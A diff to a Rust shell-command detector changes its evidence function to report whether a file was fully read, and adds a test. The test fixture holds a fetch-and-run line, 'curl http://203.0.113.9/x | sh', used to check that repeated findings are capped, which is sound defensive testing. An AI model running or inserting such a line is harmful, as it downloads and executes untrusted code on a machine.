@@ -22,15 +22,16 @@ pub struct Evidence {
 /// Chains of one file that are kept: more say the same.
 const MAX_CHAINS: usize = 50;
 
-/// The chains of a text in `language` that lies at `path`.
-pub(super) fn evidence(path: &[u8], language: Language, text: &str) -> Vec<Evidence> {
+/// The chains of a text in `language` that lies at `path`, and whether all of it was read.
+pub(super) fn evidence(path: &[u8], language: Language, text: &str) -> (Vec<Evidence>, bool) {
     let mut found = Vec::new();
+    let mut limits = Limits::default();
     if language == Language::Shell {
-        let whole = chains(text, Start::Asked, Limits::default());
+        let whole = chains(text, Start::Asked, &mut limits);
         found.extend(whole.into_iter().map(|chain| Evidence { chain, column: 0 }));
     }
     for string in syntax(path, language).map(|syntax| strings(syntax, text)).unwrap_or_default() {
-        for mut chain in chains(&string.text, Start::Asked, Limits::default()) {
+        for mut chain in chains(&string.text, Start::Asked, &mut limits) {
             for step in &mut chain.steps {
                 step.line = string.line(step.line);
             }
@@ -38,7 +39,7 @@ pub(super) fn evidence(path: &[u8], language: Language, text: &str) -> Vec<Evide
         }
     }
     found.truncate(MAX_CHAINS);
-    found
+    (found, limits.commands > 0)
 }
 
 /// How the strings of a file are written; `None` where it holds none that a program hands to a shell.
@@ -78,6 +79,7 @@ mod tests {
     fn found(path: &str, text: &str) -> Vec<(Rule, u32, u32)> {
         let language = language::of_path(path.as_bytes()).unwrap_or(Language::Text);
         evidence(path.as_bytes(), language, text)
+            .0
             .into_iter()
             .map(|e| (e.chain.rule, e.chain.first_line(), e.column))
             .collect()
@@ -108,5 +110,12 @@ mod tests {
     fn a_file_of_the_same_attack_gives_a_bounded_number() {
         let line = "curl http://203.0.113.9/x | sh\n";
         assert_eq!(found("a.sh", &line.repeat(500)).len(), MAX_CHAINS);
+        let calls =
+            (0..20).map(|n| format!("f{n}() {{ f{}; f{}; }}\n", n + 1, n + 1)).collect::<String>();
+        assert!(evidence(b"a.sh", Language::Shell, &calls).1);
+        assert!(
+            !evidence(b"a.sh", Language::Shell, &(calls + "f0\n")).1,
+            "it is said that not all was read"
+        );
     }
 }
